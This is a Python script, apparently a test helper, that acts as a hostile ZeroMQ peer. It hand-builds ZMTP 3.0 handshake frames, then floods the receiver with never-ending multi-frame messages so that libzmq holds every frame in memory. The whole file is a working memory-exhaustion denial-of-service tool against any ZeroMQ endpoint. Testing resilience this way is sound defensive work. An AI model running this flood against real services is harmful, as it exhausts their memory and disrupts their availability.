"""A hostile ZeroMQ peer, on the wire: ZMTP 3.0 with the NULL mechanism, written by hand so that
nothing (no libzmq of its own) holds back what it sends.

It sends ``frames`` frames of ``frame_bytes`` each with the MORE flag and never ends the message:
libzmq on the receiving side buffers a message until its last frame (its pipes count whole
messages, ZMQ_MAXMSGSIZE bounds one frame), so every frame stays in the receiver's memory until
the connection closes (issue 51, item 2).  Standard library only, so that it runs under any
Python as any user: ``python3 zmtp_peer.py ENDPOINT SOCKET_TYPE FRAMES [HOLD_S]`` prints ``sent``
or ``refused: <error>`` (exit 3).
"""

from __future__ import annotations

import socket
import struct
import sys
import time

GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def connect(endpoint: str) -> socket.socket:
    """A stream socket to a tcp://host:port or ipc:///path endpoint."""
    if endpoint.startswith("ipc://"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(endpoint[len("ipc://"):])
        return s
    host, port = endpoint[len("tcp://"):].rsplit(":", 1)
    return socket.create_connection((host.strip("[]"), int(port)), timeout=10)


def flood(endpoint: str, socket_type: bytes, frames: int, frame_bytes: int = 1 << 20, hold_s: float = 0.0) -> None:
    """Greet as a ``socket_type`` peer, then send the never-ending message; hold the connection ``hold_s``."""
    s = connect(endpoint)
    try:
        s.sendall(GREETING)
        props = bytes([11]) + b"Socket-Type" + struct.pack(">I", len(socket_type)) + socket_type
        body = b"\x05READY" + props
        s.sendall(b"\x04" + bytes([len(body)]) + body)
        chunk = b"x" * frame_bytes
        head = b"\x03" + struct.pack(">Q", frame_bytes)  # MORE | LONG, 8-byte size
        for _ in range(frames):
            s.sendall(head + chunk)
        time.sleep(hold_s)
    finally:
        s.close()


if __name__ == "__main__":
    ep, kind, n = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3])
    try:
        flood(ep, kind, n, hold_s=float(sys.argv[4]) if len(sys.argv) > 4 else 1.0)
    except OSError as e:
        print(f"refused: {e}", flush=True)
        sys.exit(3)
    print("sent", flush=True)
